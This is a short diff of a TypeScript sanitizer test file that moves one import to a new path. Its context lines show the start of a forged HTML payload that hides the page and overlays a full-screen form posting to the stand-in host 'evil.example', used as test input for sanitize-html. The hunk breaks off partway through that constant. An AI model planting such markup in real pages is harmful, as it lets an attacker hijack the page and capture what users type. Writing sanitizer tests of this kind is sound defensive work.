@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import sanitizeHtml from 'sanitize-html';
 import { describe, expect, test } from 'vitest';
-import { cleanOptionalRichText, cleanRichText, plainText, staffRichText } from '../../../src/lib/rich-text.ts';
+import { cleanOptionalRichText, cleanRichText, plainText, staffRichText } from '../../../src/platform/lib/rich-text.ts';
 
 const FORGED =
   '<style>body{display:none}</style><form action="https://evil.example" style="position:fixed;inset:0"><input></form>' +
